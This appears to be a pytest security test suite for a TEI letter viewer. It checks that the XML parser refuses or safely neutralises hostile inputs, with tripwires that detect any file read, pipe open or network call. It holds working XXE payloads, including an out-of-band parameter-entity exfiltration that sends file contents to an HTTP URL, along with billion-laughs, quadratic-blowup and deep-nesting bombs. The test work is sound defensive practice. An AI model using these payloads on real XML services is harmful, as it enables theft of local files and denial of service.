"""XML attacks: each read in-process and through ``main.py --dump`` / ``--check``.

Every case points whatever it can at three tripwires (a marker file with a
secret in an inotify-watched folder, a named pipe, a TCP listener on
127.0.0.1; see hostile_support.py)
and must end either in a clear one-line refusal or in a safe dump where the
entity stays unexpanded as ``&name;`` with a warning. After each run: the
pipe was never opened, the listener saw no connection, the secret is in no
output, the child finished within the hang guard and its peak memory stayed
within a few hundred MB of a tiny letter's.

The files sit in folders whose names start with a dot: the register catalog
looks for register files beside a letter and in sibling folders, and skips
dot-folders, so each run measures its own attack and not its neighbours'.
test_hostile_neighbours covers the neighbours on purpose.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from viewer.errors import EpistolaError
from viewer.model import letter_to_json
from viewer.tei import read_letter
from viewer.tei.xml import MAX_FILE_BYTES

from .hostile_support import (
    MAX_GROWTH_MB,
    assert_one_line_error,
    run_epistola,
    tei,
)

pytestmark = pytest.mark.hostile

UNSAFE = "cannot be opened safely"


@dataclass
class Case:
    """A hostile file and what must come of it."""

    data: bytes | None = None  # None: the file is made by ``make`` (big files)
    refused: str | None = None  # fragment of the one-line error; None: it must parse
    text_has: tuple[str, ...] = ()  # literal fragments of the dumped text
    warnings: tuple[str, ...] = ()  # diagnostic codes the dump must carry
    make: str | None = None


@dataclass
class World:
    tmp: Path
    marker: Path
    fifo: object
    listener: object
    secret: str
    watch: object = None
    made: dict[str, Path] = field(default_factory=dict)

    @property
    def file_url(self) -> str:
        return self.marker.as_uri()

    @property
    def fifo_url(self) -> str:
        return self.fifo.path.as_uri()

    @property
    def http_url(self) -> str:
        return self.listener.url


def _laughs(levels: int = 9) -> str:
    declarations = ['<!ENTITY l0 "lollollollol">']
    for level in range(1, levels + 1):
        declarations.append(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">')
    return f"<!DOCTYPE TEI [{''.join(declarations)}]>"


def build_cases(w: World) -> dict[str, Case]:
    three = {"file": w.file_url, "fifo": w.fifo_url, "http": f"{w.http_url}/x.xml"}
    cases: dict[str, Case] = {}
    cases["external-entities"] = Case(
        tei(
            "a &ef; b &ep; c &eh; d",
            prolog=(
                f'<!DOCTYPE TEI [<!ENTITY ef SYSTEM "{three["file"]}">'
                f'<!ENTITY ep SYSTEM "{three["fifo"]}">'
                f'<!ENTITY eh SYSTEM "{three["http"]}">]>'
            ),
        ),
        text_has=("a &ef; b &ep; c &eh; d",),
        warnings=("entity-not-expanded",),
    )
    cases["external-entity-public-id"] = Case(
        tei(
            "&pub;",
            prolog=f'<!DOCTYPE TEI [<!ENTITY pub PUBLIC "-//Evil//EN" "{w.http_url}/pub.ent">]>',
        ),
        text_has=("&pub;",),
        warnings=("entity-not-expanded",),
    )
    cases["external-entity-in-attribute"] = Case(
        tei(
            '<hi rend="&ef;">x</hi>',
            prolog=f'<!DOCTYPE TEI [<!ENTITY ef SYSTEM "{three["file"]}">]>',
        ),
        refused="external entity 'ef'",
    )
    for name, url in three.items():
        cases[f"parameter-entity-{name}"] = Case(
            tei("body text", prolog=f'<!DOCTYPE TEI [<!ENTITY % p SYSTEM "{url}"> %p;]>'),
            text_has=("body text",),
        )
    # The classic out-of-band exfiltration: read a file, then send it in a URL.
    cases["parameter-entity-exfiltration"] = Case(
        tei(
            "body text",
            prolog=(
                f'<!DOCTYPE TEI [<!ENTITY % data SYSTEM "{three["file"]}">'
                f"<!ENTITY % send \"<!ENTITY &#x25; go SYSTEM '{w.http_url}/?%data;'>\">"
                "%send; %go;]>"
            ),
        ),
        refused="is not well-formed XML: PEReferences forbidden in internal subset",
    )
    for name, url in three.items():
        cases[f"external-dtd-{name}"] = Case(
            tei("body &leak;", prolog=f'<!DOCTYPE TEI SYSTEM "{url}">'),
            text_has=("body &leak;",),
            warnings=("entity-not-expanded",),
        )
    cases["xinclude"] = Case(
        tei(
            "before "
            f'<xi:include href="{three["file"]}" parse="text"/>'
            f'<xi:include href="{three["fifo"]}" parse="xml"/>'
            f'<xi:include href="{three["http"]}"/>'
            f'<xi:include href="{w.marker.name}" parse="text"/>'
            " after"
        ),
        text_has=("before", "after"),
    )
    cases["xml-stylesheet-pi"] = Case(
        (
            f'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="{three["file"]}"?>\n'
            f'<?xml-stylesheet type="text/xsl" href="{three["http"]}"?>\n'
            f'<?xml-stylesheet type="text/xsl" href="{three["fifo"]}"?>\n'
        ).encode()
        + tei("styled"),
        text_has=("styled",),
    )
    cases["billion-laughs"] = Case(tei("&l9;", prolog=_laughs()), refused=UNSAFE)
    cases["billion-laughs-in-attribute"] = Case(
        tei('<hi rend="&l9;">x</hi>', prolog=_laughs()), refused=UNSAFE
    )
    cases["entity-loop"] = Case(
        tei("&a;", prolog='<!DOCTYPE TEI [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'), refused=UNSAFE
    )
    cases["quadratic-blowup"] = Case(
        tei("&q;" * 50_000, prolog=f'<!DOCTYPE TEI [<!ENTITY q "{"x" * 50_000}">]>'),
        refused=UNSAFE,
    )
    cases["nesting-100000"] = Case(
        tei("<hi>" * 100_000 + "deep" + "</hi>" * 100_000),
        refused="nested too deeply (over 256 levels)",
    )
    cases["text-node-50MB"] = Case(make="text", refused="text node is larger than 10 MB")
    cases["attribute-20MB"] = Case(make="attribute", refused="attribute value is larger than 10 MB")
    cases["file-70MB"] = Case(make="huge", refused="is too large to open (70.0 MB; the limit is 64")
    return cases


CASE_NAMES = [
    "external-entities",
    "external-entity-public-id",
    "external-entity-in-attribute",
    "parameter-entity-file",
    "parameter-entity-fifo",
    "parameter-entity-http",
    "parameter-entity-exfiltration",
    "external-dtd-file",
    "external-dtd-fifo",
    "external-dtd-http",
    "xinclude",
    "xml-stylesheet-pi",
    "billion-laughs",
    "billion-laughs-in-attribute",
    "entity-loop",
    "quadratic-blowup",
    "nesting-100000",
    "text-node-50MB",
    "attribute-20MB",
    "file-70MB",
]


@pytest.fixture(scope="module")
def big_files(tmp_path_factory) -> dict[str, Path]:
    """The big files, written once per module (they hold no tripwire)."""
    folder = tmp_path_factory.mktemp(".big")
    files = {
        "text": folder / "text-node-50MB.xml",
        "attribute": folder / "attribute-20MB.xml",
        "huge": folder / "file-70MB.xml",
    }
    head, tail = tei("@@").split(b"@@")
    with open(files["text"], "wb") as stream:
        stream.write(head + b"y" * 50_000_000 + tail)
    with open(files["attribute"], "wb") as stream:
        stream.write(head + b'<hi rend="' + b"z" * 20_000_000 + b'">x</hi>' + tail)
    with open(files["huge"], "wb") as stream:
        stream.write(head)
        block = b"<lb/>" + b"w" * (1 << 20)
        for _ in range(70):
            stream.write(block)
        stream.write(tail)
        stream.truncate(70 * (1 << 20))  # exactly 70 MB: over the bound, whatever it holds
    return files


@pytest.fixture
def world(tmp_path, marker, fifo, listener, secret, watch) -> World:
    return World(tmp_path, marker, fifo, listener, secret, watch)


def _case_file(world: World, big_files: dict[str, Path], name: str) -> tuple[Path, Case]:
    case = build_cases(world)[name]
    if case.make is not None:
        return big_files[case.make], case
    path = world.tmp / ".letters" / f"{name}.xml"
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(case.data)
    return path, case


def _assert_untouched(world: World, *outputs: str | bytes) -> None:
    assert world.watch.opened() == [], "the parser opened or read the marker file"
    assert world.fifo.opened == 0, "the parser opened the named pipe"
    assert world.listener.connections == 0, "the parser connected to the network"
    for output in outputs:
        text = output.decode("utf-8", "replace") if isinstance(output, bytes) else output
        assert world.secret not in text, "the secret of the marker file leaked into the output"


def _check_letter_json(payload: dict, case: Case) -> None:
    for fragment in case.text_has:
        assert fragment in payload["text"], (fragment, payload["text"][:200])
    codes = {d["code"] for d in payload["diagnostics"]}
    for code in case.warnings:
        assert code in codes, (code, payload["diagnostics"])
        assert all(d["severity"] == "warning" for d in payload["diagnostics"] if d["code"] == code)


def test_the_cases_are_all_listed(tmp_path, marker, fifo, listener, secret):
    assert list(build_cases(World(tmp_path, marker, fifo, listener, secret))) == CASE_NAMES


@pytest.mark.slow
@pytest.mark.parametrize("name", CASE_NAMES)
def test_attack_in_process(name, world, big_files):
    path, case = _case_file(world, big_files, name)
    if case.refused is not None:
        with pytest.raises(EpistolaError) as caught:
            read_letter(path)
        message = str(caught.value)
        assert case.refused in message, message
        assert message.startswith(str(path)), message
        assert "\n" not in message
        _assert_untouched(world, message)
        return
    letter = read_letter(path)
    payload = letter_to_json(letter)
    _check_letter_json(payload, case)
    _assert_untouched(world, json.dumps(payload, ensure_ascii=False))


@pytest.mark.slow
@pytest.mark.e2e
@pytest.mark.parametrize("option", ["--dump", "--check"])
@pytest.mark.parametrize("name", CASE_NAMES)
def test_attack_command_line(name, option, world, big_files, baseline_rss):
    path, case = _case_file(world, big_files, name)
    result = run_epistola(option, str(path))
    _assert_untouched(world, result.stdout, result.stderr)
    assert result.maxrss_mb - baseline_rss < MAX_GROWTH_MB, (result.maxrss_mb, baseline_rss)
    if case.refused is not None:
        assert_one_line_error(result, str(path), case.refused)
        return
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    if option == "--dump":
        _check_letter_json(json.loads(result.stdout), case)
    else:
        lines = result.stdout.decode().splitlines()
        assert lines[-1].startswith(f"{path}: 0 error(s)")
        for code in case.warnings:
            assert any(f": warning: {code}: " in line for line in lines), lines


@pytest.mark.slow
def test_the_size_bound_is_checked_before_reading(big_files, monkeypatch):
    """A file over the bound is refused from its size alone: not a byte is read."""
    assert big_files["huge"].stat().st_size > MAX_FILE_BYTES
    opened: list[str] = []
    real_open = os.open

    def spying_open(path, *args, **kwargs):
        opened.append(os.fspath(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", spying_open)
    with pytest.raises(EpistolaError, match="too large"):
        read_letter(big_files["huge"])
    assert str(big_files["huge"]) not in opened


def test_a_letter_cannot_include_the_file_beside_it(tmp_path, secret):
    """A relative reference ("letter-2.xml" in the same folder) is not followed either."""
    folder = tmp_path / "letters"
    folder.mkdir()
    (folder / "private.txt").write_text(secret, encoding="utf-8")
    letter = folder / "letter.xml"
    letter.write_bytes(
        tei(
            '&near; <xi:include href="private.txt" parse="text"/>',
            prolog='<!DOCTYPE TEI SYSTEM "private.txt" [<!ENTITY near SYSTEM "private.txt">]>',
        )
    )
    payload = letter_to_json(read_letter(letter))
    assert secret not in json.dumps(payload, ensure_ascii=False)
    assert payload["text"] == "&near;"


def _plant_neighbours(world: World, big_files: dict[str, Path]) -> Path:
    """An edition folder whose letter sits among every attack (the catalog reads neighbours)."""
    edition = world.tmp / "edition"
    beside, registers = edition / "letters", edition / "register"
    beside.mkdir(parents=True)
    registers.mkdir()
    for name, case in build_cases(world).items():
        if case.data is not None:
            (beside / f"{name}.xml").write_bytes(case.data)
            (registers / f"{name}.xml").write_bytes(case.data)
    for name, path in big_files.items():
        try:
            os.link(path, registers / f"{name}.xml")
        except OSError:
            os.symlink(path, registers / f"{name}.xml")
    os.symlink(world.fifo.path, registers / "pipe.xml")
    letter = beside / "good.xml"
    letter.write_bytes(tei('Dear <persName ref="#jw">Jody</persName>,'))
    return letter


@pytest.mark.slow
def test_hostile_neighbours_in_process(world, big_files):
    from viewer.tei.catalog import RegisterCatalog

    letter = _plant_neighbours(world, big_files)
    registers = RegisterCatalog().for_letter(letter)
    payload = letter_to_json(read_letter(letter, registers=registers))
    assert payload["text"] == "Dear Jody,"
    _assert_untouched(world, json.dumps(payload, ensure_ascii=False))


@pytest.mark.slow
@pytest.mark.e2e
def test_hostile_neighbours_command_line(world, big_files, baseline_rss):
    """Opening a good letter whose folder and sibling folders hold every attack."""
    letter = _plant_neighbours(world, big_files)
    result = run_epistola("--dump", str(letter))
    _assert_untouched(world, result.stdout, result.stderr)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["text"] == "Dear Jody,"
    assert result.maxrss_mb - baseline_rss < MAX_GROWTH_MB, (result.maxrss_mb, baseline_rss)


# ------------------------------------------- deep, but within the bound


def _nest(opening: str, closing: str, depth: int, inner: str = "x") -> str:
    return opening * depth + inner + closing * depth


DEEP = 245  # + TEI/text/body and the wrappers: just under libxml2's 256


def _deep_documents() -> dict[str, bytes]:
    ns = 'xmlns="http://www.tei-c.org/ns/1.0"'

    def doc(body: str = "<p>x</p>", header: str = "", standoff: str = "") -> bytes:
        return (
            f"<TEI {ns}><teiHeader><fileDesc><titleStmt><title>t</title></titleStmt>"
            f"</fileDesc>{header}</teiHeader><standOff>{standoff}</standOff>"
            f"<text><body><p>Dear</p>{body}</body></text></TEI>"
        ).encode()

    return {
        "hi": doc(_nest("<hi>", "</hi>", DEEP)),
        "note-in-note": doc(_nest("<note>", "</note>", DEEP)),
        "choice": doc(_nest("<choice><sic>", "</sic><corr>c</corr></choice>", DEEP // 2)),
        "name-in-name": doc(_nest('<persName ref="#a">', "</persName>", DEEP)),
        "list-item": doc(_nest("<list><item>", "</item></list>", DEEP // 2)),
        "letterhead": doc(
            '<ab type="letterhead"><list><item>'
            + _nest("<persName>", "</persName>", DEEP - 6)
            + "</item></list></ab>"
        ),
        "figure": doc(_nest("<figure>", "</figure>", DEEP, "<figDesc>d</figDesc>")),
        "header": doc(
            header='<profileDesc><correspDesc><correspAction type="sent">'
            + _nest("<persName>", "</persName>", DEEP - 6)
            + "</correspAction></correspDesc></profileDesc>"
        ),
        "register": doc(
            standoff='<listPerson><person xml:id="a">'
            + _nest("<persName>", "</persName>", DEEP - 4)
            + "</person></listPerson>"
        ),
    }


@pytest.mark.parametrize("name", sorted(_deep_documents()))
def test_deep_but_legal_nesting_never_hits_the_recursion_limit(name):
    """The walkers recurse; 245 levels must parse even from a deep call stack (a Qt slot)."""
    data = _deep_documents()[name]

    def from_depth(frames: int):
        if frames:
            return from_depth(frames - 1)
        return [read_letter("deep.xml", data=data, reading=r) for r in ("normalised", "diplomatic")]

    for letter in from_depth(150):
        json.dumps(letter_to_json(letter))
